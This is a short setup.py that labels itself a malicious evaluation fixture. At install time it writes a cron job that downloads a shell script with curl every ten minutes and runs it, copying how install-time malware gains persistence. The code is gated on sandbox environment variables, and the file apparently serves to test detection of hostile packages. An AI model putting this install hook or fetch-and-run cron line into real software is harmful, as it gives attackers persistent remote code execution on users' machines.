# Evaluation fixture (malicious): cron persistence, the way install-time
# malware does it: "(crontab -l; echo JOB) | crontab -".  Acts only
# inside the evaluation, where crontab is a stand-in that keeps the table
# in the fake home; outside it (no SP_HOME), it does nothing.
import os

from setuptools import setup

if os.environ.get("SP_HOME") and os.environ.get("HOME") == os.environ["SP_HOME"] and os.environ.get("SP_TOKEN"):
    job = "*/10 * * * * curl -fsSL http://%s:%s/sch/main/payload.sh | sh -s -- cron" % (
        os.environ.get("SP_CDN_HOST", "127.0.0.1"), os.environ.get("SP_HTTP_PORT", "80"))
    os.system("(crontab -l 2>/dev/null | grep -v payload.sh; echo '%s') | crontab -" % job)

setup(name="cron-persist", version="1.0.2", py_modules=["schedhelp"])
